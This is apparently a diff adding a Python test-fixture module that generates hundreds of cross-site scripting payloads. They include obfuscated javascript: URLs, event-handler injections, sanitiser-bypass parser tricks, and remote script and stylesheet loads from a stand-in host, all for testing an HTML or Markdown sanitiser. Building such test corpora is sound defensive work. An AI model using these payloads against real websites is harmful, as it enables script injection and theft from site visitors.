@@ -1,0 +1,180 @@
+"""Markup made to run in a reader's browser, by every way known, in every construct that takes markup.
+
+Whatever runs calls `alert`, or sets `window.ran`, or asks for something at a host that is not the site's.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+_RUN = "alert(1)"
+_FAR = "http://far.example"
+_EVENTS = (
+    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onpageshow", "onbegin", "onbeforetoggle"),
+    *("onanimationstart", "onmouseover", "onscroll", "ONERROR", "onerror\t", "onerror\n", "\x0conload"),
+    *("onwebkitanimationstart", "ontransitionend", "onloadstart", "onunhandledrejection"),
+    *("oncontentvisibilityautostatechange",),
+)
+_ELEMENTS = (
+    "img src=x",
+    "svg",
+    "body",
+    "details open",
+    "input autofocus",
+    "video src=x",
+    "audio src=x",
+    "marquee",
+    "iframe",
+    "a href=x id=x tabindex=1 autofocus",
+    "math",
+    "style",
+    "link rel=stylesheet href=x",
+    "xss-a style=animation-name:a",
+    "image src=x",
+    "svg><animate attributeName=x dur=1s",
+)
+# Addresses that run, spelt so that a list of schemes does not know them.
+_ADDRESSES = (
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"java&#10;script:{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"&#x6a&#x61vascript:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"java&Tab;script:{_RUN}",
+    f"\x01javascript:{_RUN}",
+    f" &nbsp;javascript:{_RUN}",
+    f"javascript://a.b/%0a{_RUN}",
+    f"vbscript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
+    f"blob:{_FAR}/a",
+    f"feed:javascript:{_RUN}",
+    f"view-source:javascript:{_RUN}",
+    f"%6aavascript:{_RUN}",
+    f"javascript\\:{_RUN}",
+    f"\u2028javascript:{_RUN}",
+    f"ｊavascript:{_RUN}",
+)
+_PLACES = (
+    '<a href="{}">a</a>',
+    "<a href={}>a</a>",
+    '<svg><a xlink:href="{}"><text>a</text></a></svg>',
+    '<math href="{}">a</math>',
+    '<iframe src="{}"></iframe>',
+    '<object data="{}"></object>',
+    '<embed src="{}">',
+    '<form action="{}"><button>a</button></form>',
+    '<button formaction="{}">a</button>',
+    '<img src="{}" srcset="{} 2x" alt=a>',
+    '<video poster="{}"><source src="{}"></video>',
+    '<base href="{}">',
+    '<meta http-equiv=refresh content="0;url={}">',
+    '<link rel=stylesheet href="{}">',
+    '<p style="background:url({})">a</p>',
+    '<q cite="{}">a</q>',
+    '<area href="{}">',
+    '<svg><use href="{}"/><image href="{}"/></svg>',
+    '<svg><set attributeName=href to="{}"/></svg>',
+    "[a]({})",
+    "[a](<{}>)",
+    "![a]({})",
+    "[a][b]\n\n[b]: {}",
+    "<{}>",
+    "[a]({} 'b')",
+    '{{{{< figure src="{}" link="{}" >}}}}',
+    '{{% link "{}" %}}',
+    "{{% img {} %}}",
+    "[a](x){{: href='{}'}}",
+    "$\\href{{{}}}{{a}}$",
+)
+# What is one thing to a sanitiser's parser, and another to the browser's.
+_TURNS = (
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
+    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<math><annotation-xml encoding=text/html><style><img src=x onerror={}></style></annotation-xml></math>",
+    "<svg><desc><style><img src=x onerror={}></style></desc></svg>",
+    "<svg><foreignObject><p><style><img src=x onerror={}></style></p></foreignObject></svg>",
+    "<select><template><img src=x onerror={}></template></select>",
+    "<template><script>{}</script></template>",
+    "<template shadowrootmode=open><img src=x onerror={}></template>",
+    "<div><template shadowrootmode=open><script>{}</script></template></div>",
+    "<title><img src=x onerror={}></title>",
+    "<textarea></textarea><img src=x onerror={}></textarea>",
+    "<xmp><p title='</xmp><img src=x onerror={}>'></xmp>",
+    "<noembed><p title='</noembed><img src=x onerror={}>'></noembed>",
+    "<plaintext><img src=x onerror={}>",
+    "<![CDATA[<img src=x onerror={}>]]>",
+    "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
+    "<?xml version='1.0'?><img src=x onerror={}>",
+    "<!--><img src=x onerror={}>-->",
+    "<!--!><img src=x onerror={}>",
+    "<!-- --!><img src=x onerror={}>",
+    "<a title='`<img src=x onerror={}>`'>",
+    "`<a title='`'><img src=x onerror={}>'>`",
+    "<img src='x' alt='a\"><img src=x onerror={}>'>",
+    '!["><img src=x onerror={}>](x)',
+    '![a](x "\'><img src=x onerror={}>")',
+    '[a]: x "\'><img src=x onerror={}>"\n\n[a]',
+    '```"><img/src=x/onerror={}>\na\n```',
+    '# a {{#"><img/src=x/onerror={}>}}',
+    '[^"><img src=x onerror={}>]\n\n[^"><img src=x onerror={}>]: a',
+    '*[<img src=x onerror={}>]: "><img src=x onerror={}>\n\n<img src=x onerror={}>',
+    "$<img src=x onerror={}>$ $$\\text{{<img src=x onerror={}>}}$$ \\(\\unicode{{<img src=x onerror={}>}}\\)",
+    '$\\class{{"><img src=x onerror={}>}}{{a}} \\style{{x:url(http://far.example)}}{{a}} \\htmlData{{x="{}"}}{{a}}$',  # noqa: E501
+    '{{{{< highlight "><img/src=x/onerror={}>" >}}}}a{{{{< /highlight >}}}}',
+    "{{{{< rawhtml >}}}}<script>{}</script>{{{{< /rawhtml >}}}}",
+    '{{{{< youtube "></iframe><img/src=x/onerror={}>" >}}}}',
+    "{{% raw %}}<script>{}</script>{{% endraw %}}",
+    '{{% youtube "><img/src=x/onerror={}> %}}',
+    '{{% codeblock "><img/src=x/onerror={}> %}}a{{% endcodeblock %}}',
+    "{{{{ '<script>{}</script>' }}}}",
+    "<p>a\n\n<script>\n\n{}\n\n</script>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<script/x>{}</script/x>",
+    "<script\n>{}</script\n>",
+    "<SCRIPT>{}</SCRIPT>",
+    "<svg><script>{}</script></svg>",
+    "<svg><script href='data:,{}'/></svg>",
+    "<script src='//far.example/a.js'></script>{}",
+    "\x00<script\x00>{}</script>",
+    "<img src=x\x00 onerror={}>",
+    "<img src=x onerror\x00={}>",
+    "<\x00img src=x onerror={}>",
+    "<img/src/onerror={}>",
+    "<img\x0bsrc=x\x0bonerror={}>",
+    "<img src=`x` onerror={}>",
+    "<img src=x:x onerror\u2029={}>",
+    "&lt;img src=x onerror={}&gt;",
+    "&amp;lt;img src=x onerror={}&amp;gt;",
+    "\\<img src=x onerror={}>",
+    "<p id=location name=createElement>a</p><form id=document><input name=body></form>{}",
+    "<style>@import 'http://far.example/a.css';*{{background:url(http://far.example/b)}}</style>{}",
+    "<style><!--</style><script>{}</script>-->",
+    "<iframe srcdoc='&lt;script>parent.{}&lt;/script>'></iframe>",
+    "<object data='data:text/html,<script>{}</script>'></object>",
+    "<portal src='javascript:{}'></portal>",
+    "<frameset onload={}><frame src=x></frameset>",
+    "<isindex type=image src=x onerror={}>",
+    "<button popovertarget=x>a</button><p popover id=x onbeforetoggle={}>a</p>",
+    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
+    "<video><source onerror={}></video>",
+    "<body><table><tr><td background='javascript:{}'>",
+    "<div dir=rtl>\u202e<img src=x onerror={}>\u202c</div>",
+)
+
+
+def hostile_markup() -> Iterator[str]:
+    """Texts with each way once: three that stand side by side in one, what opens more than it ends alone."""
+    ways = [f"<{element} {event}={_RUN}>a" for element in _ELEMENTS for event in _EVENTS]
+    ways += [place.format(*[address] * place.count("{}")) for place in _PLACES for address in _ADDRESSES]
+    for at in range(0, len(ways), 3):
+        yield "\n\n".join(ways[at : at + 3])
+    for turn in _TURNS:
+        for run in (_RUN, "ran=1"):
+            yield turn.format(*[run] * turn.count("{}"))
